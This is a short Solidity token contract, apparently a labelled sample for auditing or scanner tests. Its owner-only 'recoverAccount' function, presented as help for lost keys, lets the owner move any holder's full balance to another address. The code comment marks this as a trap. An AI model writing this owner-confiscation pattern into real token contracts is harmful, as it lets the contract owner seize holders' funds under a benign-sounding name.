// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {OwnableToken} from "base/OwnableToken.sol";

/// Trap: a function for "lost keys" moves what anyone holds.
contract ForcedTransfer is OwnableToken {
    constructor(string memory name_, string memory symbol_, uint256 supply) OwnableToken(name_, symbol_, supply) {}

    function recoverAccount(address lost, address replacement) external onlyOwner {
        _write(lost, replacement, balances[lost]);
    }
}
